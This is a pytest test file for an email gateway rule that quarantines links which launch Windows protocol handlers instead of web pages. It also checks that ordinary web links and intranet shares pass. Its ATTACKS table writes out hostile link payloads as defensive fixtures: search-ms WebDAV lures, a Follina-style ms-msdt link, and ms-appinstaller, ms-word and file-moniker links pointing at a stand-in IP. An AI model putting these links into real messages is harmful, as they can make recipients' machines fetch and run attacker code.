"""HUE-11.5/handler-link: links that open a Windows program instead of a web page
(detectors/handler_links.py). Until 2026-12-02 each of the attacks below was accepted."""

from __future__ import annotations

from pathlib import Path

import pytest

from congvu_guard.detectors import handler_schemes
from congvu_guard.engine import Engine
from congvu_guard.model import Action
from tests import office_samples as o
from tests import samples
from tests.helpers import judge

RULE = "HUE-11.5/handler-link"
ATTACKS = {
    # The WebDAV search of the 2023-2024 campaigns: Explorer lists the attacker's .lnk files.
    "search-ms": '<a href="search-ms:query=hoa-don&amp;crumb=location:\\\\203.0.113.5@SSL'
                 '\\DavWWWRoot\\&amp;displayname=Hoa%20don">Xem hoa don</a>',
    "search": "<a href='search:query=x&amp;crumb=location:\\\\203.0.113.5\\s'>Xem</a>",
    "follina": '<a href="ms-msdt:/id PCWDiagnostic /skip force /param '
               '&quot;IT_BrowseForFile=x&quot;">Kiem tra</a>',
    "appinstaller": '<a href="ms-appinstaller:?source=https://203.0.113.5/a.msixbundle">Cai</a>',
    "office-uri": '<a href="ms-word:ofe|u|https://203.0.113.5/cong-van.docx">Mo</a>',
    "moniker": '<a href="file:///\\\\203.0.113.5\\share\\cong-van.rtf!something">Cong van</a>',
}


def _html(body: str) -> bytes:
    return samples.mime_message("Cong van", [("", "text/html", f"<html><body>{body}"
                                              "</body></html>".encode())])


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_a_link_that_opens_a_windows_program_is_quarantined(engine: Engine, name: str) -> None:
    v = judge(engine, _html(ATTACKS[name]))
    assert RULE in {f.rule for f in v.findings}, v.findings
    assert v.action is Action.QUARANTINE


def test_such_a_link_in_plain_text_or_a_documents_relationships_is_found(engine: Engine) -> None:
    text = samples.mime_message("Hoa don", [], body="Xem hoa don tai: search-ms:query=hd&crumb="
                                "location:\\\\203.0.113.5@SSL\\DavWWWRoot")
    assert RULE in {f.rule for f in judge(engine, text).findings}
    docx = o.docx_with_remote_template("search-ms:query=x&crumb=location:\\\\203.0.113.5\\s")
    v = judge(engine, samples.mime_message("Bao cao", [("bao-cao.docx", "application/"
                                           "octet-stream", docx)]))
    assert RULE in {f.rule for f in v.findings}, v.findings


@pytest.mark.parametrize("body", [
    "<p>Search: tim kiem van ban tai https://hue.gov.vn/search?q=cong-van</p>",
    '<p>Tai lieu o <a href="file://fileserver/chung/bao-cao.docx">may chu</a> va '
    "\\\\fileserver\\chung\\bao-cao.docx</p>",
    '<p>Mo bang Microsoft Word (ms word): <a href="https://hue.gov.vn/a.docx">tai day</a></p>',
])
def test_web_links_intranet_shares_and_prose_pass(engine: Engine, body: str) -> None:
    v = judge(engine, _html(body))
    assert v.action is Action.ACCEPT, v.findings


def test_a_pdf_link_that_opens_a_windows_program_is_found_in_a_real_pdf(engine: Engine) -> None:
    """PDFs exported by LibreOffice (tests/corpus/pdf-links): the same document linking to
    search-ms: is quarantined, linking to a web page it passes."""
    corpus = Path(__file__).parent / "corpus" / "pdf-links"
    bad, good = ((corpus / n).read_bytes() for n in ("hoa-don.pdf", "van-ban.pdf"))
    v = judge(engine, samples.mime_message("Hoa don", [("hoa-don.pdf", "application/pdf", bad)]))
    assert any("opens a Windows program" in f.detail and "search-ms:" in f.detail
               for f in v.findings) and v.action is Action.QUARANTINE, v.findings
    v = judge(engine, samples.mime_message("Van ban", [("van-ban.pdf", "application/pdf", good)]))
    assert v.action is Action.ACCEPT, v.findings


def test_every_scheme_holds_one_of_the_stems_the_quick_check_looks_for() -> None:
    schemes = (*handler_schemes.SCHEMES, *handler_schemes.TARGET_ONLY)
    assert all(any(stem in s for stem in handler_schemes.STEMS) for s in schemes)
